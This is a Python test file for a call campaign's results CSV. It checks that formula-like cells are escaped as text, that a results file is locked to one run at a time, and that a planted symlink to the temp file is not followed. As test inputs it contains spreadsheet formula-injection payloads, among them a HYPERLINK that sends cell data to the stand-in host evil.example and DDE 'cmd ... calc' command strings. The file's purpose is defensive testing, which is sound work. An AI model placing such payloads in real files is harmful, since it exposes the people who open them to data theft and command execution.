"""The campaign's results file: cells a spreadsheet would run as formulas, and one run at a
time per results file."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest

from bridge.campaign import CampaignError, Result, ResultsBusy, ResultsFile, read_contacts

# --- cells a spreadsheet would take for formulas --------------------------------------------


@pytest.mark.parametrize(
    ("phone", "cell"),
    [
        # A valid E.164 number stays as it is: `+` then digits only, nothing to run.
        ("+14155550101", "+14155550101"),
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("+44 20 bad", "'+44 20 bad"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width =, which some spreadsheets accept too
        ("'=1", "'=1"),  # already text: not quoted twice
        ("4155550103", "4155550103"),
        ("call me", "call me"),
    ],
)
def test_formula_cells_are_written_as_text(tmp_path: Path, phone: str, cell: str) -> None:
    contacts = tmp_path / "contacts.csv"
    quoted = phone.replace('"', '""')
    contacts.write_text(f'phone,name\n"{quoted}",Ada\n', encoding="utf-8")
    found = read_contacts(contacts)
    ledger = ResultsFile(tmp_path / "results.csv")
    ledger.open()
    for result in [*found.invalid, *(Result(c.row, c.number, "placed") for c in found.contacts)]:
        ledger.append(result)
    ledger.close()
    journal = list(csv.reader(io.StringIO(ledger.path.read_text(encoding="utf-8"), newline="")))
    ledger.rewrite([*found.invalid, *(Result(c.row, c.number, "placed") for c in found.contacts)])
    final = list(csv.reader(io.StringIO(ledger.path.read_text(encoding="utf-8"), newline="")))
    assert journal[1][1] == final[1][1] == cell


@pytest.mark.parametrize(
    "cells",
    [
        Result(2, "+14155550101", "failed", error="=1+1"),
        Result(2, "+14155550101", "placed", call_sid="@x", conversation_id="-1"),
        Result(2, "\tx", "invalid", error="\r=1"),
    ],
)
def test_no_cell_starts_a_formula(tmp_path: Path, cells: Result) -> None:
    ledger = ResultsFile(tmp_path / "results.csv")
    ledger.rewrite([cells])
    rows = list(csv.reader(io.StringIO(ledger.path.read_text(encoding="utf-8"), newline="")))
    for value in rows[1]:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == "+14155550101"


def test_placed_rows_are_read_back_unchanged(tmp_path: Path) -> None:
    ledger = ResultsFile(tmp_path / "results.csv")
    ledger.rewrite([Result(2, "+14155550101", "placed", call_sid="CA1", conversation_id="c")])
    assert ResultsFile(ledger.path).placed() == {
        "+14155550101": Result(2, "+14155550101", "placed", call_sid="CA1", conversation_id="c")
    }


# --- one run at a time ------------------------------------------------------------------------


def test_a_results_file_in_use_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    first = ResultsFile(path)
    first.lock()
    first.lock()  # the same run again (the command line, then the campaign): fine
    with pytest.raises(ResultsBusy) as busy:
        ResultsFile(path).lock()
    assert str(busy.value) == (
        f"{path}: another `callbridge campaign` (process {os.getpid()}) is using this results "
        "file; wait for it to finish, then run again (rows it placed are not dialled twice)"
    )
    assert not path.exists()
    first.unlock()
    with pytest.raises(ResultsBusy):
        ResultsFile(path).lock()  # still held once
    first.unlock()
    second = ResultsFile(path)
    second.lock()
    second.unlock()


def test_the_rewrite_does_not_follow_a_planted_temporary_file(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n", encoding="utf-8")
    path = tmp_path / "results.csv"
    (tmp_path / f".{path.name}.tmp").symlink_to(victim)
    ResultsFile(path).rewrite([Result(2, "+14155550101", "placed", call_sid="CA1")])
    assert victim.read_text(encoding="utf-8") == "keep me\n"
    assert ResultsFile(path).placed()["+14155550101"].call_sid == "CA1"
    assert sorted(item.name for item in tmp_path.iterdir()) == [
        ".results.csv.tmp",
        "results.csv",
        "victim.txt",
    ]


def test_a_results_file_that_cannot_be_written_is_reported(tmp_path: Path) -> None:
    missing = tmp_path / "no-such-folder" / "results.csv"
    with pytest.raises(CampaignError, match=r"results\.csv: cannot write: No such file"):
        ResultsFile(missing).lock()
    taken = tmp_path / "results.csv"
    taken.mkdir()  # a folder where the results file should be: the rewrite fails
    with pytest.raises(IsADirectoryError):
        ResultsFile(taken).rewrite([Result(2, "+14155550101", "placed")])
    assert [item.name for item in tmp_path.iterdir()] == ["results.csv"]  # no temp left
